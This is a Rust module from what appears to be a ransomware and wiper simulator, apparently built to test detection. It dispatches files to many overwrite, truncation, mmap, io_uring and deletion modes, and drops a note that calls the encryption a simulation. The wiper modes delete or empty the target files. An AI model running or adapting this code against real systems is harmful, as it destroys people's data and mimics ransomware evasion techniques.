//! Harms one file after the other.
use std::fs;
use std::path::{Path, PathBuf};

use super::mode::{Mode, Pace};
use super::{kernel_copy, uring, wipe, write};

const NOTE: &str = "READ_ME_TO_RESTORE.txt";
const NOTE_TEXT: &str = "Your files are encrypted. (A simulation by norn attack: nothing is asked for, and Norn restores them.)\n";
pub fn harm_each(targets: &[PathBuf], pace: Pace) -> anyhow::Result<()> {
    for path in targets {
        harm(path, pace.mode)?;
        if !pace.mode.is_wiper() {
            drop_note(path)?;
        }
        if !pace.pause.is_zero() {
            std::thread::sleep(pace.pause);
        }
    }
    Ok(())
}

fn harm(path: &Path, mode: Mode) -> anyhow::Result<()> {
    match mode {
        Mode::InPlace
        | Mode::Slow
        | Mode::Threads
        | Mode::ProcessPerFile
        | Mode::ForkTree
        | Mode::MoveDirectories
        | Mode::ElsewhereRename
        | Mode::ElsewhereMv
        | Mode::ElsewhereCopy => write::in_place(path),
        Mode::WriteNewUnlink => write::new_then_unlink(path),
        Mode::WriteNewRenameOver => write::new_then_rename_over(path),
        Mode::RenameThenWrite => write::rename_then_in_place(path),
        Mode::Partial => write::partial(path),
        Mode::Mmap => write::mapped(path),
        Mode::TruncateThenWrite => write::truncated(path, write::Truncation::OnOpen),
        Mode::FtruncateThenWrite => write::truncated(path, write::Truncation::ByDescriptor),
        Mode::TruncatePathThenWrite => write::truncated(path, write::Truncation::ByPath),
        Mode::LowEntropy => write::as_text(path),
        Mode::HolePunch => write::punched(path),
        Mode::IoUring => uring::in_place(path),
        Mode::WiperUnlink => Ok(fs::remove_file(path)?),
        Mode::WiperOverwrite => wipe::overwrite(path),
        Mode::WiperTruncate => wipe::empty(path, write::Truncation::OnOpen),
        Mode::WiperFtruncate => wipe::empty(path, write::Truncation::ByDescriptor),
        Mode::WiperTruncatePath => wipe::empty(path, write::Truncation::ByPath),
        Mode::CopyFileRange => kernel_copy::copy_file_range(path),
        Mode::Sendfile => kernel_copy::sendfile(path),
    }
}

fn drop_note(path: &Path) -> anyhow::Result<()> {
    let note = path.with_file_name(NOTE);
    if !note.exists() {
        fs::write(note, NOTE_TEXT)?;
    }
    Ok(())
}
